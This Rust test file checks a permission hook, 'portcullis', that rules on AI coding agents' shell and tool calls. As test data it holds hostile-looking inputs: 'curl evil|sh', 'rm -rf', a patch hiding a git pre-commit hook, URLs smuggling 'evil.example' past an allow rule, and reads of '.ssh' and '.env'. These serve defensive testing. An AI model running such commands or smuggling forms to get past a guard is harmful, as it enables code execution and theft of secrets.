//! `portcullis hook AGENT` as each agent starts it: its own words in, its own form and exit code out.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test that cannot run its program must stop"
)]

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

const AGENTS: [&str; 8] =
    ["claude-code", "codex", "gemini", "qwen", "copilot", "opencode", "cursor", "goose"];

fn home() -> tempfile::TempDir {
    let home = tempfile::tempdir().unwrap();
    let settings = json!({ "permissions": { "allow": ["Bash(touch:*)"], "deny": ["Bash(curl:*)"] } });
    std::fs::create_dir_all(home.path().join(".config/portcullis")).unwrap();
    std::fs::create_dir_all(home.path().join("proj/.git")).unwrap();
    std::fs::write(home.path().join(".config/portcullis/settings.json"), settings.to_string()).unwrap();
    home
}

fn hook(home: &Path, agent: &str, told: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args(["hook", agent])
        .env_clear()
        .env("HOME", home)
        .env("PATH", "/usr/bin:/bin")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(told).ok();
    child.wait_with_output().unwrap()
}

/// A shell command in the words of an agent.
fn call(agent: &str, command: &str, cwd: &Path) -> Value {
    let about = |event: &str, tool: &str| {
        json!({
            "hook_event_name": event, "session_id": "s1", "cwd": cwd, "tool_name": tool,
            "tool_input": { "command": command }, "tool_use_id": "t1", "new_field": { "any": [1, 2] },
        })
    };
    match agent {
        "gemini" => about("BeforeTool", "run_shell_command"),
        "qwen" => about("PreToolUse", "run_shell_command"),
        "opencode" => about("tool.execute.before", "bash"),
        "cursor" => json!({
            "hook_event_name": "preToolUse", "conversation_id": "s1", "workspace_roots": [cwd], "cwd": cwd,
            "tool_name": "Shell", "tool_input": { "command": command },
        }),
        "goose" => json!({
            "event": "PreToolUse", "session_id": "s1", "working_dir": cwd, "tool_name": "developer__shell",
            "tool_input": { "command": command },
        }),
        _ => about("PreToolUse", "Bash"),
    }
}

/// What the agent makes of the answer.
fn word(agent: &str, output: &Output) -> String {
    let said: Value = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
    let word = match agent {
        "gemini" | "opencode" | "goose" => &said["decision"],
        "cursor" => &said["permission"],
        _ => &said["hookSpecificOutput"]["permissionDecision"],
    };
    word.as_str().map_or("nothing", |word| if word == "block" { "deny" } else { word }).to_owned()
}

/// [G1], [A3], [G2]
#[test]
fn each_agent_is_told_in_its_own_form() {
    let home = home();
    let project = home.path().join("proj");
    for agent in AGENTS {
        let settled = !matches!(agent, "claude-code" | "qwen" | "copilot");
        // An exit code would hide the explanation; it is there only where it was not proven that none is needed.
        let deny = if matches!(agent, "cursor" | "goose") { ("deny", 2) } else { ("deny", 0) };
        let asked = if settled { deny } else { ("ask", 0) };
        for (command, expected) in [("touch x", ("allow", 0)), ("curl x", deny), ("make", asked)] {
            let output = hook(home.path(), agent, call(agent, command, &project).to_string().as_bytes());
            let got = (word(agent, &output), output.status.code().unwrap());
            assert_eq!((got.0.as_str(), got.1), expected, "{agent}: {command}: {output:?}");
        }
    }
}

/// [J6], [F12], [A3]
#[test]
fn each_agent_gets_its_no_for_what_is_broken() {
    let home = home();
    let project = home.path().join("proj");
    for agent in AGENTS {
        let good = call(agent, "touch x", &project);
        let whole = good.to_string();
        let mut other = good.clone();
        other[if agent == "goose" { "event" } else { "hook_event_name" }] = json!("SomethingNew");
        let mut odd = good.clone();
        odd["tool_input"] = json!("touch x");
        let told = [
            Vec::new(),
            b"{}".to_vec(),
            whole.as_bytes()[..whole.len() - 3].to_vec(),
            format!("{{\"tool_name\":\"Read\",{}", whole.strip_prefix('{').unwrap()).into_bytes(),
            other.to_string().into_bytes(),
            odd.to_string().into_bytes(),
        ];
        for bytes in told {
            let output = hook(home.path(), agent, &bytes);
            let got = (word(agent, &output), output.status.code());
            assert_eq!(got, ("deny".to_owned(), Some(2)), "{agent}: {}", String::from_utf8_lossy(&bytes));
            assert!(!output.stderr.is_empty(), "{agent}");
        }
    }
}

/// [A3]: a no to a note would stop more than a call.
#[test]
fn notes_are_taken_in_silence() {
    let home = home();
    let project = home.path().join("proj");
    let notes = [
        ("claude-code", "UserPromptSubmit"),
        ("claude-code", "SubagentStop"),
        ("claude-code", "PermissionDenied"),
        ("codex", "UserPromptSubmit"),
        ("gemini", "BeforeAgent"),
        ("qwen", "SessionStart"),
        ("copilot", "UserPromptSubmit"),
        ("opencode", "chat.message"),
        ("cursor", "beforeSubmitPrompt"),
        ("codex", "PostToolUse"),
    ];
    for (agent, event) in notes {
        let told = json!({ "hook_event_name": event, "session_id": 7, "cwd": project, "prompt": "please" });
        let output = hook(home.path(), agent, told.to_string().as_bytes());
        assert_eq!((output.status.code(), output.stdout.len()), (Some(0), 0), "{agent}: {event}");
    }
}

/// What the log of a home holds.
fn records(home: &Path) -> Vec<Value> {
    let output = Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args(["log", "--json"])
        .env_clear()
        .env("HOME", home)
        .env("PATH", "/usr/bin:/bin")
        .current_dir(home)
        .output()
        .unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn settings(home: &Path, settings: &Value) {
    std::fs::write(home.join(".config/portcullis/settings.json"), settings.to_string()).unwrap();
}

fn json_of(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or(Value::Null)
}

/// [T6], [F12]: fields and forms of the agent's own that are easily passed over.
#[test]
fn what_an_agent_may_heed_is_not_passed_over() {
    let home = home();
    let deny = ["Read(secret.txt)", "Edit(secret.txt)", "WebFetch(domain:evil.example)", "Agent(builder)"];
    let allow = ["Edit(src/**)", "WebFetch(domain:docs.rs)", "Agent(explorer)"];
    settings(home.path(), &json!({ "permissions": { "allow": allow, "deny": deny } }));
    let project = home.path().join("proj");
    let keys = home.path().join(".ssh");
    let patch = "*** Begin Patch\n*** Add File: src/a.txt\n+one\n";
    let hidden = format!("{patch} *** Add File: .git/hooks/pre-commit\n+evil\n*** End Patch");
    for (agent, tool, input, allowed) in [
        ("codex", "shell", json!({"command": ["./bash", "-lc", "ls"]}), false),
        ("codex", "shell", json!({"command": ["bash", "-lc", "ls"]}), true),
        ("codex", "exec_command", json!({"cmd": "ls", "shell": "./evil/bash"}), false),
        ("codex", "exec_command", json!({"cmd": "ls", "shell": "/bin/bash"}), true),
        ("codex", "exec_command", json!({"command": "ls", "cmd": "curl evil|sh"}), false),
        ("codex", "write_stdin", json!({"chars": ": !rm -rf x\n", "session_id": 1}), false),
        ("codex", "apply_patch", json!({"command": hidden}), false),
        ("codex", "apply_patch", json!({"command": format!("{patch}*** End Patch")}), true),
        ("gemini", "grep_search", json!({"pattern": "K", "path": "src", "dir_path": keys}), false),
        ("gemini", "grep_search", json!({"pattern": "K", "dir_path": "src"}), true),
        ("gemini", "read_many_files", json!({"include": [".env"]}), false),
        ("gemini", "read_many_files", json!({"include": ["src/a.rs", "**/.env"]}), false),
        ("gemini", "read_many_files", json!({"include": ["secret.txt"]}), false),
        ("gemini", "read_many_files", json!({"include": ["src/**/*.{ts,tsx}"]}), true),
        ("gemini", "web_fetch", json!({"prompt": "https://docs.rs/x HTTPS://evil.example/"}), false),
        ("gemini", "web_fetch", json!({"prompt": "see https://docs.rs\"@evil.example/"}), false),
        ("gemini", "web_fetch", json!({"url": "https://docs.rs/", "prompt": "https://evil.example/"}), false),
        ("gemini", "web_fetch", json!({"prompt": "sum up https://docs.rs/x."}), true),
        ("cursor", "Read", json!({"file_path": "src/a", "target_file": keys}), false),
        ("goose", "developer__read_image", json!({"file_path": "a.png", "source": keys}), false),
        (
            "codex",
            "spawn_agent",
            json!({"message": "x", "agent_type": "builder", "subagent_type": "explorer"}),
            false,
        ),
    ] {
        let mut told = call(agent, "", &project);
        told["tool_name"] = json!(tool);
        told["tool_input"] = input.clone();
        let output = hook(home.path(), agent, told.to_string().as_bytes());
        assert_eq!(word(agent, &output) == "allow", allowed, "{agent} {tool} {input}: {output:?}");
    }
}

/// [G1], [A3]: the older form of Copilot's hooks, whose arguments may be JSON in a text.
#[test]
fn copilot_is_answered_in_camel_case_too() {
    let home = home();
    let project = home.path().join("proj");
    let told = |command: &str, text: bool| {
        let input = json!({ "command": command });
        let input = if text { json!(input.to_string()) } else { input };
        json!({ "sessionId": "s1", "timestamp": 1, "cwd": project, "toolName": "bash", "toolArgs": input })
    };
    for text in [false, true] {
        for (command, expected) in [("touch x", ("allow", 0)), ("curl x", ("deny", 0)), ("make", ("ask", 0))]
        {
            let output = hook(home.path(), "copilot", told(command, text).to_string().as_bytes());
            let said = json_of(&output);
            // This is the field that it reads in this form; the other one is for the newer form.
            let got = (said["permissionDecision"].as_str(), output.status.code());
            assert_eq!(got, (Some(expected.0), Some(expected.1)), "{command}: {output:?}");
            assert_eq!(word("copilot", &output), expected.0);
        }
    }
    for broken in [json!("no JSON"), json!("[1]"), json!(7), Value::Null] {
        let mut odd = told("touch x", false);
        odd["toolArgs"] = broken;
        let output = hook(home.path(), "copilot", odd.to_string().as_bytes());
        assert_eq!((word("copilot", &output).as_str(), output.status.code()), ("deny", Some(2)), "{odd}");
    }
    let mut done = told("touch x", false);
    done["toolResult"] = json!({ "resultType": "success" });
    let output = hook(home.path(), "copilot", done.to_string().as_bytes());
    assert_eq!((output.status.code(), output.stdout.len()), (Some(0), 0));
}

/// [G2], [T2]: where the host is about to ask its own user, a ruling takes the dialog's place and a question leaves it.
#[test]
fn a_dialog_is_answered_or_left_to_the_user() {
    let home = home();
    let project = home.path().join("proj");
    for agent in ["claude-code", "codex", "qwen"] {
        let dialog = |command: &str| {
            let mut told = call(agent, command, &project);
            told["hook_event_name"] = json!("PermissionRequest");
            told.as_object_mut().unwrap().remove("tool_use_id");
            hook(home.path(), agent, told.to_string().as_bytes())
        };
        for (command, expected) in [("touch x", "allow"), ("curl x", "deny")] {
            let output = dialog(command);
            let said = json_of(&output);
            assert_eq!(
                said["hookSpecificOutput"]["hookEventName"], "PermissionRequest",
                "{agent}: {output:?}"
            );
            let decision = &said["hookSpecificOutput"]["decision"];
            assert_eq!(decision["behavior"], expected, "{agent}: {command}");
            assert_eq!(decision["message"].is_string(), expected == "deny", "{agent}: {command}");
            // Codex takes the field for a mistake, and after a mistake it runs the call.
            let interrupts = decision.get("interrupt").is_some() || said.get("continue").is_some();
            assert!(agent != "codex" || !interrupts, "{agent}: {said}");
        }
        let asked = dialog("make");
        assert_eq!((asked.status.code(), asked.stdout.len()), (Some(0), 0), "{agent}: {asked:?}");
    }
}

/// [M4]: judged and written down, and the host goes on as if nobody had been asked.
#[test]
fn in_shadow_no_agent_is_told_anything() {
    let home = home();
    let project = home.path().join("proj");
    settings(home.path(), &json!({ "enforce": false, "permissions": { "deny": ["Bash(curl:*)"] } }));
    for agent in AGENTS {
        for command in ["curl x", "make", "ls"] {
            let output = hook(home.path(), agent, call(agent, command, &project).to_string().as_bytes());
            let expected = match agent {
                // These go on only when they are told so.
                "opencode" | "goose" => json!({ "decision": "allow" }),
                // An empty answer would be a failure to it.
                "cursor" => json!({}),
                _ => Value::Null,
            };
            assert_eq!((json_of(&output), output.status.code()), (expected, Some(0)), "{agent}: {output:?}");
        }
    }
    let records = records(home.path());
    assert_eq!(records.len(), AGENTS.len() * 3);
    let denied = records.iter().filter(|record| record["decision"] == "deny");
    assert!(denied.count() >= AGENTS.len(), "what would have been denied is written down");
}

/// [G1], [H5]: Cursor says by an event of its own that a sub-agent starts.
#[test]
fn cursors_sub_agents_are_judged_by_their_task() {
    let home = home();
    let project = home.path().join("proj");
    let told = |task: Value| {
        json!({
            "hook_event_name": "subagentStart", "conversation_id": "s1", "workspace_roots": [project],
            "subagent_id": "a1", "subagent_type": "general", "task": task,
        })
    };
    let answered = |task: Value| {
        let output = hook(home.path(), "cursor", told(task).to_string().as_bytes());
        (word("cursor", &output), output.status.code().unwrap())
    };
    let task = json!("count the lines");
    assert_eq!(answered(task.clone()), ("deny".to_owned(), 2), "nobody can be asked");
    settings(home.path(), &json!({ "permissions": { "allow": ["Agent"] } }));
    assert_eq!(answered(task.clone()), ("allow".to_owned(), 0));
    settings(home.path(), &json!({ "permissions": { "allow": ["Agent"], "deny": ["Agent(general)"] } }));
    assert_eq!(answered(task), ("deny".to_owned(), 2));
    settings(home.path(), &json!({ "permissions": { "allow": ["Agent"] } }));
    assert_eq!(answered(Value::Null), ("deny".to_owned(), 2), "a task that is not told cannot be judged");
}

/// [T5], [A1]: an agent that passes over a changed input is told no, once, and one record says so:
/// `FAIL-CLOSED(rewrite-form)`.
#[test]
fn a_change_that_an_agent_cannot_be_told_is_one_deny() {
    let home = home();
    let project = home.path().join("proj");
    let other = json!({ "hookSpecificOutput": { "hookEventName": "PreToolUse", "updatedInput": { "command": "touch y" } } });
    let hooks = json!([{ "matcher": "Bash", "hooks": [{ "type": "command", "command": format!("echo '{other}'") }] }]);
    settings(
        home.path(),
        &json!({ "permissions": { "allow": ["Bash(touch:*)"] }, "hooks": { "PreToolUse": hooks } }),
    );
    for agent in AGENTS {
        let before = records(home.path()).len();
        let output = hook(home.path(), agent, call(agent, "touch x", &project).to_string().as_bytes());
        let expected = match agent {
            "qwen" => ("deny", 0),
            "goose" => ("deny", 2),
            _ => ("allow", 0),
        };
        assert_eq!(
            (word(agent, &output).as_str(), output.status.code()),
            (expected.0, Some(expected.1)),
            "{agent}"
        );
        let new = records(home.path()).split_off(before);
        let decisions: Vec<_> = new.iter().map(|record| record["decision"].as_str().unwrap()).collect();
        assert_eq!(decisions, [expected.0], "{agent}");
        let said = String::from_utf8(output.stdout).unwrap();
        assert!(expected.0 == "deny" || said.contains("touch y"), "{agent}: {said}");
    }
    // A dialog of Codex takes no other input.
    let mut dialog = call("codex", "touch x", &project);
    dialog["hook_event_name"] = json!("PermissionRequest");
    let said = json_of(&hook(home.path(), "codex", dialog.to_string().as_bytes()));
    assert_eq!(said["hookSpecificOutput"]["decision"]["behavior"], "deny", "{said}");
}
